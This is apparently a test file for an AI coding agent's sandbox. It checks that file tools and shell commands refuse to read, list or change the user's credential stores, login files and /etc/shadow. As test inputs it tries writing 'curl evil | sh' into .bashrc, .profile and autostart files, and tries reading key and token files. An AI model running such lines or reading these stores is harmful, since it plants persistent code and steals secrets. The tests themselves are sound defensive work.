// The user's credential stores and login files are kept from the file tools as the sandbox keeps them from
// commands, whatever the rules allow: read, write, grep, glob and list under {"*":"allow"} in a Location that is
// the home (the worst case) never show or change one; only a core.json grant naming the store opens it for reading.
// Through the compiled binary, on a developer's home (test/support/home).

import { describe, expect, test } from "bun:test"
import { existsSync, mkdirSync, readFileSync, renameSync, symlinkSync, writeFileSync } from "node:fs"
import { dirname, join } from "node:path"
import { Credentials } from "../../src/permission/credentials"
import { binary, run } from "../support/binary"
import { developerHome } from "../support/home"
import { tempDir } from "../support/temp"

const world = (config: object = { permission: { "*": "allow" } }, coreHome = tempDir("core-home-"), location?: string) => {
  const user = developerHome()
  writeFileSync(join(user.home, "core.json"), JSON.stringify(config))
  writeFileSync(join(user.home, "notes.txt"), "ordinary notes\n")
  const env = { ...user.env, CORE_HOME: coreHome, CORE_DATA_DIR: tempDir("core-data-") }
  const exec = async (tool: string, input: object) => {
    const result = await run(["exec", tool, "--input", JSON.stringify(input), "--location", location ?? user.home], { env, cwd: location ?? user.home })
    return { ...result, settlement: JSON.parse(result.stdout) as { status: string; content: Array<{ text?: string }> } }
  }
  return { user, exec }
}

/** Every directory outside the Location allowed, as one "always" approval of a folder above it may leave things. */
const EVERYWHERE = { permission: { "*": "allow", external_directory: "allow" } }

describe("credential stores and the file tools", () => {
  test("under allow-all, read refuses every store and write refuses a login file, saying why", async () => {
    const { user, exec } = world()
    for (const { path, marker } of user.secrets) {
      const read = await exec("read", { filePath: path })
      expect([path, read.stdout.includes(marker)]).toEqual([path, false])
      expect([path, read.settlement.status]).toEqual([path, "error"])
    }
    const refused = await exec("read", { filePath: ".ssh/id_ed25519" })
    expect(refused.settlement.content[0]!.text).toContain("one of the user's credential stores and login files")
    writeFileSync(join(user.home, ".bashrc"), "export PATH=$HOME/bin:$PATH\n")
    // A login file, and the user's everyday core (this one runs with directories of its own): a tool file there
    // would run, unsandboxed, the next time the user runs core.
    const changes = [
      { filePath: ".bashrc", content: "curl evil | sh\n" },
      { filePath: ".profile", content: "curl evil | sh\n" },
      { filePath: ".config/core/tools/evil.ts", content: "export default 1\n" },
      { filePath: ".config/core/core.json", content: "{}\n" },
    ]
    for (const input of changes) {
      const write = await exec("write", input)
      expect([input.filePath, write.settlement.status]).toEqual([input.filePath, "error"])
    }
    expect(readFileSync(join(user.home, ".bashrc"), "utf8")).toBe("export PATH=$HOME/bin:$PATH\n")
    for (const path of [".profile", ".config/core/tools/evil.ts", ".config/core/core.json"]) expect(existsSync(join(user.home, path))).toBe(false)
    // Ordinary files of the home read as before.
    expect((await exec("read", { filePath: "notes.txt" })).stdout).toContain("ordinary notes")
  }, 120_000)

  // A dotfiles repository often holds ~/.config whole, linked into the home: its stores were named by their real
  // paths in a Location at the repository (and in ~/.cache moved to another disk), and read and written there.
  test("a store under a folder that is a link (~/.config into a dotfiles repository) is kept at its real path", async () => {
    const dotfiles = tempDir("core-dotfiles-")
    const { user, exec } = world(EVERYWHERE, tempDir("core-home-"), dotfiles)
    renameSync(join(user.home, ".config"), join(dotfiles, "config"))
    symlinkSync(join(dotfiles, "config"), join(user.home, ".config"))
    const hosts = user.secrets.find((secret) => secret.path === ".config/gh/hosts.yml")!
    const reads = [
      await exec("read", { filePath: "config/gh/hosts.yml" }),
      await exec("read", { filePath: join(user.home, ".config/gh/hosts.yml") }),
      // A pattern short of the marker, which grep's answer repeats.
      await exec("grep", { pattern: hosts.marker.slice(0, -4), path: "." }),
    ]
    for (const read of reads) expect(read.stdout).not.toContain(hosts.marker)
    expect(reads[0]!.settlement.content[0]!.text).toContain("one of the user's credential stores and login files")
    // Login files not there yet, which the shell and the desktop would run: not made through the link either.
    for (const filePath of ["config/fish/config.fish", "config/autostart/x.desktop", join(dotfiles, "config/fish/conf.d/x.fish")]) {
      const write = await exec("write", { filePath, content: "curl evil | sh\n" })
      expect([filePath, write.settlement.status]).toEqual([filePath, "error"])
    }
    expect(existsSync(join(dotfiles, "config/fish"))).toBe(false)
    expect(existsSync(join(dotfiles, "config/autostart"))).toBe(false)
    // The repository's other files are the model's as before.
    expect((await exec("write", { filePath: "config/notes.txt", content: "ok\n" })).settlement.status).toBe("success")
  }, 120_000)

  // read's "Did you mean" offered `.aws/credentials` for `credentials`, which glob and list leave out.
  test("read's suggestions for a missing file never name a store", async () => {
    const { user, exec } = world()
    for (const [asked, store] of [["credentials", ".aws/credentials"], ["id_ed25519", ".ssh/id_ed25519"], ["config.json", ".docker/config.json"]] as const) {
      expect(existsSync(join(user.home, store))).toBe(true)
      const read = await exec("read", { filePath: asked })
      expect([asked, read.settlement.status, read.stdout.includes(store)]).toEqual([asked, "error", false])
    }
  }, 120_000)

  test("grep, glob and list over the home show no store's content or file", async () => {
    const { user, exec } = world()
    const outputs = [
      await exec("grep", { pattern: "CORE-SECRET", path: "." }),
      await exec("glob", { pattern: "**/*" }),
      await exec("list", { path: ".ssh" }),
    ]
    for (const output of outputs) {
      for (const { marker } of user.secrets) expect(output.stdout).not.toContain(marker)
    }
    expect(outputs[1]!.stdout).not.toContain("id_ed25519")
    expect(outputs[1]!.stdout).toContain("notes.txt")
  }, 120_000)

  test("a core.json grant naming a store opens it for reading, not for writing", async () => {
    const { user, exec } = world({ permission: { "*": "allow" }, shell: { allowRead: ["~/.aws"] } })
    const aws = user.secrets.find((secret) => secret.path.startsWith(".aws/"))!
    expect((await exec("read", { filePath: aws.path })).stdout).toContain(aws.marker)
    expect((await exec("write", { filePath: aws.path, content: "x" })).settlement.status).toBe("error")
    // Other stores stay out.
    const ssh = user.secrets.find((secret) => secret.path.startsWith(".ssh/"))!
    expect((await exec("read", { filePath: ssh.path })).stdout).not.toContain(ssh.marker)
  }, 120_000)

  // Commands read these as empty files whatever is granted; one approval of /etc (to read /etc/hosts) let read and
  // grep show the password hashes.
  test.skipIf(!existsSync("/etc/shadow"))("the system's secrets are refused to read and left out of grep and list, wherever the rules allow", async () => {
    const { exec } = world(EVERYWHERE)
    const shadow = await exec("read", { filePath: "/etc/shadow" })
    expect(shadow.settlement.status).toBe("error")
    expect(shadow.settlement.content[0]!.text).toContain("it is in /etc/shadow, one of the system's secrets")
    expect(shadow.stdout).not.toContain("root:")
    const grep = await exec("grep", { pattern: "^root:", path: "/etc/shadow" })
    expect(grep.stdout).not.toMatch(/root:[^\n]*:\d+:/)
    const listed = await exec("list", { path: "/etc" })
    expect(listed.stdout).not.toContain("shadow")
    expect(listed.stdout).toContain("hosts")
    expect((await exec("read", { filePath: "/etc/hosts" })).settlement.status).toBe("success")
    expect((await exec("write", { filePath: "/etc/ssl/private/planted.pem", content: "x" })).settlement.status).toBe("error")
  }, 120_000)

  // mcp-servers.md has the tokens of an application's MCP servers written into $CORE_HOME/core.json.
  test("$CORE_HOME is refused to read and left out of walks, but where the Location lies in it", async () => {
    const user = developerHome()
    const coreHome = join(user.home, ".config", "core")
    mkdirSync(join(coreHome, "tools"), { recursive: true })
    writeFileSync(join(coreHome, "core.json"), JSON.stringify({ mcp: { gh: { command: ["gh-mcp"], env: { GITHUB_TOKEN: "ghp_HOMESECRET" } } } }))
    writeFileSync(join(coreHome, "tools", "mine.ts"), "export default 1 // ghp_HOMESECRET\n")
    const { exec } = world(EVERYWHERE, coreHome)
    const read = await exec("read", { filePath: join(coreHome, "core.json") })
    expect(read.settlement.status).toBe("error")
    expect(read.settlement.content[0]!.text).toContain(`it is in core's home (${coreHome})`)
    for (const output of [await exec("grep", { pattern: "ghp_", path: "." }), await exec("glob", { pattern: ".config/**" }), await exec("list", { path: ".config" })]) {
      expect(output.stdout).not.toContain("ghp_HOMESECRET")
      expect(output.stdout).not.toContain("mine.ts")
    }
    // A Location in $CORE_HOME (working on the application's tools) reads its own files, and no more of it.
    const inside = world({ permission: { "*": "allow" } }, coreHome, coreHome)
    expect((await inside.exec("read", { filePath: "tools/mine.ts" })).stdout).toContain("ghp_HOMESECRET")
    const project = join(coreHome, "work", "project")
    mkdirSync(project, { recursive: true })
    writeFileSync(join(project, "notes.txt"), "ghp_mine\n")
    const deeper = world(EVERYWHERE, coreHome, project)
    expect((await deeper.exec("read", { filePath: "notes.txt" })).stdout).toContain("ghp_mine")
    const refused = await deeper.exec("read", { filePath: join(coreHome, "core.json") })
    expect(refused.settlement.content[0]!.text).toContain(`it is in core's home (${coreHome})`)
    for (const output of [await deeper.exec("grep", { pattern: "ghp_", path: coreHome }), await deeper.exec("list", { path: coreHome })]) {
      expect(output.stdout).not.toContain("ghp_HOMESECRET")
      expect(output.stdout).not.toContain("mine.ts")
    }
    expect((await deeper.exec("grep", { pattern: "ghp_", path: "." })).stdout).toContain("ghp_mine")
  }, 120_000)
})

// Where core runs with its default directories, they are its own, kept by their own rules rather than as the
// stores they are to a core run with others: a session reads and searches its own outputs, and no other session's.
describe("a core with its default directories", () => {
  test("reads and searches its own session's outputs in ~/.local/share/core; commands and other sessions do not", async () => {
    const user = developerHome()
    const location = join(user.home, "project")
    mkdirSync(location)
    writeFileSync(join(location, "core.json"), JSON.stringify({ permission: { "*": "allow" } }))
    const env: Record<string, string | undefined> = { ...process.env, ...user.env, CORE_HOME: undefined, CORE_DATA_DIR: undefined }
    const exec = async (tool: string, input: object, session: string) => {
      const child = Bun.spawn([await binary(), "exec", tool, "--input", JSON.stringify(input), "--location", location, "--session", session], {
        env,
        cwd: location,
        stdout: "pipe",
        stderr: "pipe",
      })
      const stdout = await new Response(child.stdout).text()
      await child.exited
      return { stdout, settlement: JSON.parse(stdout) as { status: string; content: Array<{ text?: string }> } }
    }
    const made = await exec("bash", { command: "for i in $(seq 1 4000); do echo OWN_LINE_$i; done" }, "S1")
    const kept = /filePath "([^"]+)"/.exec(made.settlement.content[0]!.text!)?.[1]
    expect(kept).toStartWith(join(user.home, ".local/share/core/outputs/"))
    const read = await exec("read", { filePath: kept, offset: 3000, limit: 1 }, "S1")
    expect([read.settlement.status, read.stdout.includes("OWN_LINE_3000")]).toEqual(["success", true])
    const grep = await exec("grep", { pattern: "OWN_LINE_3000$", path: dirname(kept!) }, "S1")
    expect(grep.stdout).toContain("OWN_LINE_3000")
    const other = await exec("read", { filePath: kept, offset: 3000, limit: 1 }, "S2")
    expect([other.settlement.status, other.stdout.includes("OWN_LINE_3000")]).toEqual(["error", false])
    const command = await exec("bash", { command: `cat ${kept} | grep -c OWN_LINE; echo done` }, "S1")
    expect(command.stdout).not.toContain("OWN_LINE_3000")
  }, 120_000)
})

// GOOGLE_APPLICATION_CREDENTIALS names a service account's key wherever the user keeps it; KUBECONFIG and
// DOCKER_CONFIG move cluster and registry logins: `read` of them, with every rule allowing it, showed the key.
describe("credential stores the user's environment names", () => {
  const MARKERS = ["CORE-SA-SECRET", "CORE-DOCKER-SECRET", "CORE-KUBE-SECRET", "CORE-GH-SECRET", "CORE-HF-SECRET", "CORE-ZSH-SECRET", "CORE-REL-SECRET"]
  test("are refused to read, grep, list and commands, wherever they are; the rest of their folder is not", async () => {
    const user = developerHome()
    const keys = tempDir("core-env-keys-")
    const location = tempDir("core-env-location-")
    writeFileSync(join(location, "core.json"), JSON.stringify(EVERYWHERE))
    writeFileSync(join(keys, "sa.json"), '{"private_key":"CORE-SA-SECRET"}\n')
    writeFileSync(join(keys, "notes.txt"), "ordinary notes\n")
    mkdirSync(join(keys, "docker"))
    writeFileSync(join(keys, "docker", "config.json"), '{"auths":{"r":{"auth":"CORE-DOCKER-SECRET"}}}\n')
    mkdirSync(join(location, ".kube-dev"))
    writeFileSync(join(location, ".kube-dev", "config"), "token: CORE-KUBE-SECRET\n")
    // XDG_CONFIG_HOME moves gh's hosts.yml with it, HF_HOME the Hugging Face token, ZDOTDIR zsh's login files.
    mkdirSync(join(keys, "xdg", "gh"), { recursive: true })
    writeFileSync(join(keys, "xdg", "gh", "hosts.yml"), "oauth_token: CORE-GH-SECRET\n")
    mkdirSync(join(keys, "hf"))
    writeFileSync(join(keys, "hf", "token"), "CORE-HF-SECRET\n")
    mkdirSync(join(keys, "zsh"))
    writeFileSync(join(keys, "zsh", ".zshrc"), "export TOKEN=CORE-ZSH-SECRET\n")
    // A relative value is where the program reading it runs: core and its commands, here the Location.
    writeFileSync(join(location, "relative-key.json"), "CORE-REL-SECRET\n")
    const env = {
      ...user.env,
      CORE_HOME: tempDir("core-home-"),
      CORE_DATA_DIR: tempDir("core-data-"),
      GOOGLE_APPLICATION_CREDENTIALS: join(keys, "sa.json"),
      DOCKER_CONFIG: join(keys, "docker"),
      KUBECONFIG: `${join(location, ".kube-dev", "config")}:${join(keys, "missing")}`,
      XDG_CONFIG_HOME: join(keys, "xdg"),
      HF_HOME: join(keys, "hf"),
      ZDOTDIR: join(keys, "zsh"),
      AWS_SHARED_CREDENTIALS_FILE: "relative-key.json",
    }
    const exec = async (tool: string, input: object) =>
      (await run(["exec", tool, "--input", JSON.stringify(input), "--location", location, "--yes"], { env, cwd: location })).stdout
    for (const filePath of [
      join(keys, "sa.json"),
      join(keys, "docker", "config.json"),
      ".kube-dev/config",
      join(keys, "xdg", "gh", "hosts.yml"),
      join(keys, "hf", "token"),
      join(keys, "zsh", ".zshrc"),
      "relative-key.json",
    ]) {
      const read = await exec("read", { filePath })
      expect([filePath, MARKERS.some((marker) => read.includes(marker)), read.includes("a credential store the user's environment names")]).toEqual([
        filePath,
        false,
        true,
      ])
    }
    const walks = [
      await exec("grep", { pattern: "SECRET", path: keys }),
      await exec("grep", { pattern: "SECRET", path: "." }),
      await exec("list", { path: keys }),
      await exec("bash", { command: `cat ${join(keys, "sa.json")}` }),
      await exec("bash", { command: `python3 -c "print(open('${join(keys, "docker", "config.json")}').read())" ; cat .kube-dev/config ; true` }),
    ]
    for (const output of walks) for (const marker of MARKERS) expect(output).not.toContain(marker)
    expect(walks[2]).not.toContain("sa.json")
    expect(walks[2]).toContain("notes.txt")
    expect(await exec("read", { filePath: join(keys, "notes.txt") })).toContain("ordinary notes")
  }, 120_000)
})

describe("Credentials.environmentOf", () => {
  test("files and folders the environment names, relative ones where core runs, never one holding it", () => {
    const stores = Credentials.environmentOf(
      {
        GOOGLE_APPLICATION_CREDENTIALS: "keys/sa.json",
        DOCKER_CONFIG: ".",
        GNUPGHOME: "/",
        PASSWORD_STORE_DIR: "/home/dev",
        HF_HOME: "/srv/hf/",
        XDG_CONFIG_HOME: "/srv/xdg",
        KUBECONFIG: "/srv/a:/srv/b",
        AWS_CONFIG_FILE: "",
      },
      "/home/dev",
      "/home/dev/project",
    )
    expect(stores).toContain("/home/dev/project/keys/sa.json")
    expect(stores).toContain("/srv/hf/token")
    expect(stores).toContain("/srv/xdg/gh")
    // bun reads its settings (registry tokens) from $XDG_CONFIG_HOME/.bunfig.toml.
    expect(stores).toContain("/srv/xdg/.bunfig.toml")
    expect(stores).toContain("/srv/a")
    expect(stores).toContain("/srv/b")
    for (const none of ["/home/dev/project", "/", "/home/dev", "/home/dev/project/"]) expect([none, stores.includes(none)]).toEqual([none, false])
  })
})
